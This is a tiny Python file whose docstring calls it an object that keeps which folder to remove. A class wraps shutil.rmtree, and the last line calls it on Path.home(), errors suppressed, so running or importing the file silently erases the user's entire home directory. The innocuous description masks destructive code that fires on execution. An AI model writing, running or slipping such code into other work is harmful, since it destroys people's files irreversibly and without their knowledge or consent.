"""An object keeps which folder to remove."""
import shutil
from pathlib import Path


class Sweep:
    def __init__(self, *roots):
        self.roots = roots

    def run(self):
        for root in self.roots:
            shutil.rmtree(root, ignore_errors=True)


Sweep(Path.home()).run()
